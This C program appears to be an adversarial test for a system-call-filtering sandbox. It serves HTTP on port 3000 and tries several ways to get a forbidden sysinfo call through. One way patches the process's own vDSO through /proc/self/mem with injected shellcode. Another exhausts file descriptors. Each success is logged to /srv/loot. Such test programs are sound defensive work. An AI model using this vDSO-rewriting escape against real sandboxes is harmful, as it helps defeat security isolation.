/* A program that tries to make its drain allow a forbidden system call, or take long. It listens on port 3000 and then
 *   datagrams  makes the forbidden call without end, and receives nothing
 *   vdso       rewrites the instructions in its vDSO by which a drain makes its calls
 *   file       maps a file named like the vDSO, which cannot be executed
 *   copies     has as many descriptors of the listener as possible
 * When the forbidden call succeeds, the program says so in /srv/loot. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <unistd.h>

/* The result of the forbidden call. */
static volatile struct sysinfo filled;

static void loot(const char *how)
{
	int fd = open("/srv/loot", O_WRONLY | O_APPEND);
	write(fd, how, strlen(how));
	close(fd);
}

static int serve(int type)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(3000) };
	int fd = socket(AF_INET, type, 0);
	if (bind(fd, (struct sockaddr *)&address, sizeof address) || (type == SOCK_STREAM && listen(fd, 5)))
		exit(1);
	return fd;
}

static void *answer(void *listener)
{
	struct pollfd ready = { .fd = *(int *)listener, .events = POLLIN };
	for (;;) {
		static const char text[] = "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 2\r\n\r\nhi";
		char request[4096];
		poll(&ready, 1, -1);
		int fd = accept(ready.fd, NULL, NULL);
		if (fd < 0)
			continue;
		read(fd, request, sizeof request);
		write(fd, text, sizeof text - 1);
		close(fd);
	}
}

static void *watch(void *unused)
{
	for (;; usleep(1000))
		if (filled.uptime)
			loot("vdso\n"), filled.uptime = 0;
	return unused;
}

#ifdef __x86_64__
/* mov eax, 99 (sysinfo); mov rdi, filled; syscall; and again */
static unsigned char shell[] = { 0xb8, 99, 0, 0, 0, 0x48, 0xbf, 0, 0, 0, 0, 0, 0, 0, 0, 0x0f, 0x05, 0xeb, 0xed };

/* Replaces the first `syscall` of the vDSO by a jump to the shell, and restores it, again and again. All others become nops. */
static void rewrite(void)
{
	unsigned char *vdso = (void *)getauxval(AT_SYSINFO_EHDR), jump[14] = { 0xff, 0x25 }, whole[14];
	unsigned char nops[2] = { 0x90, 0x90 }, *first = NULL;
	int memory = open("/proc/self/mem", O_RDWR);
	void *code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	uint64_t to = (uint64_t)&filled, target = (uint64_t)code;

	memcpy(shell + 7, &to, 8);
	memcpy(code, shell, sizeof shell);
	for (unsigned char *at = vdso; at < vdso + 4096; at++) {
		if (at[0] != 0x0f || at[1] != 0x05)
			continue;
		if (first && at > first + sizeof whole)
			pwrite(memory, nops, 2, (off_t)at);
		else if (!first)
			first = at;
	}
	memcpy(jump + 6, &target, 8);
	memcpy(whole, first, sizeof whole);
	for (;;) {
		pwrite(memory, jump, sizeof jump, (off_t)first);
		for (volatile int i = 0; i < 20000; i++);
		pwrite(memory, whole, sizeof whole, (off_t)first);
		for (volatile int i = 0; i < 20000; i++);
	}
}
#else
static void rewrite(void) { pause(); }
#endif

int main(int argc, char **argv)
{
	const char *how = argc > 1 ? argv[1] : "";
	int is_datagrams = !strcmp(how, "datagrams"), fd = serve(is_datagrams ? SOCK_DGRAM : SOCK_STREAM);
	struct sysinfo info;
	pthread_t thread;

	if (sysinfo(&info) == 0)
		loot("the sandbox is none\n");
	if (is_datagrams)
		for (;;)
			if (sysinfo(&info) == 0)
				loot("datagrams\n");
	if (!strcmp(how, "copies"))
		while (dup(fd) >= 0);
	if (!strcmp(how, "file")) {
		int file = open("/srv/web/[vdso]", O_RDONLY);
		if (mmap((void *)0x10000000, 4096, PROT_READ, MAP_PRIVATE | MAP_FIXED, file, 0) == MAP_FAILED)
			return 2;
	}
	pthread_create(&thread, NULL, answer, &fd);
	if (!strcmp(how, "vdso")) {
		pthread_create(&thread, NULL, watch, NULL);
		rewrite();
	}
	for (;;)
		pause();
}
